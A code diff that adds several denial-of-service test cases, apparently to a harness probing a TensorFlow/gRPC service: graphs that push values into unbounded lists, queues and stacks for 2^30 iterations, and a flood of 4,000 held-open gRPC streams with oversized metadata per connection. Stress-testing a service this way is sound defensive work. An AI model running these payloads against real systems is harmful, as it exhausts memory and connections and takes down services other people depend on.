@@ -112,6 +112,71 @@ def push_back(target):
 
 
 @attack
+def push_one_value_back(target):
+    def build():
+        v1.enable_control_flow_v2()
+        try:
+            one = tf.constant(1.0)
+            empty = raw.EmptyTensorList(element_shape=tf.constant([], tf.int32), max_num_elements=-1, element_dtype=tf.float32)
+            loop = tf.while_loop(lambda i, _: i < 1 << 30, lambda i, l: (i + 1, raw.TensorListPushBack(input_handle=l, tensor=one)), [0, empty])
+            return raw.TensorListLength(input_handle=loop[1])
+        finally:
+            v1.disable_control_flow_v2()
+
+    once(target, build, timeout=240)
+
+
+@attack
+def enqueue_one_value(target):
+    def build():
+        queue = v1.FIFOQueue(-1, tf.float32, [], shared_name="one")
+        one = tf.constant(1.0)
+
+        def body(i):
+            with tf.control_dependencies([queue.enqueue(one)]):
+                return i + 1
+
+        return tf.while_loop(lambda i: i < 1 << 30, body, [0])
+
+    once(target, build, timeout=240)
+
+
+@attack
+def stack_of_one_value(target):
+    def build():
+        stack = raw.StackV2(max_size=-1, elem_type=tf.float32)
+        one = tf.constant(1.0)
+
+        def body(i):
+            with tf.control_dependencies([raw.StackPushV2(handle=stack, elem=one)]):
+                return i + 1
+
+        return tf.while_loop(lambda i: i < 1 << 30, body, [0])
+
+    once(target, build, timeout=240)
+
+
+@attack
+def large_headers(target):
+    """4,000 open calls with 15 KB of metadata on each of eight connections."""
+    import grpc
+
+    metadata = [(f"x-{i}", "h" * 1000) for i in range(15)]
+    ended = threading.Semaphore(0)
+    address, kept = target.removeprefix("grpc://"), []
+    for connection in range(8):
+        options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_metadata_size", 1 << 20)]
+        channel = grpc.insecure_channel(address, options=options)
+        wait = channel.stream_stream("/thalweg.Unknown/Wait")
+        closing = threading.Event()
+        for _ in range(4000):
+            kept.append((channel, wait(iter(lambda c=closing: c.wait() or b"", b"never"), metadata=metadata, timeout=60)))
+            if len(kept) % 200 == 0:
+                time.sleep(0.05)
+    time.sleep(20)
+
+
+@attack
 def stack_of_gradient(target):
     def build():
         x = tf.constant(1.0)
